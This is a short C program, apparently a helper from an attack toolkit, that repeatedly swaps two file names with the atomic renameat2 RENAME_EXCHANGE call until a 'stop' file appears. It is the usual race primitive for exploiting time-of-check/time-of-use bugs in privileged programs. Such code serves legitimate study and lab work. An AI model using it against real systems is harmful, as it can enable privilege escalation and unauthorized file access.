// Swaps two names in the working directory until the file `stop` exists.
#include "attack.h"

int main(int count, char **words)
{
    if (count != 3) {
        return 2;
    }
    while (access("stop", F_OK) != 0) {
        // RENAME_EXCHANGE
        syscall(SYS_renameat2, AT_FDCWD, words[1], AT_FDCWD, words[2], 2);
    }
    return 0;
}
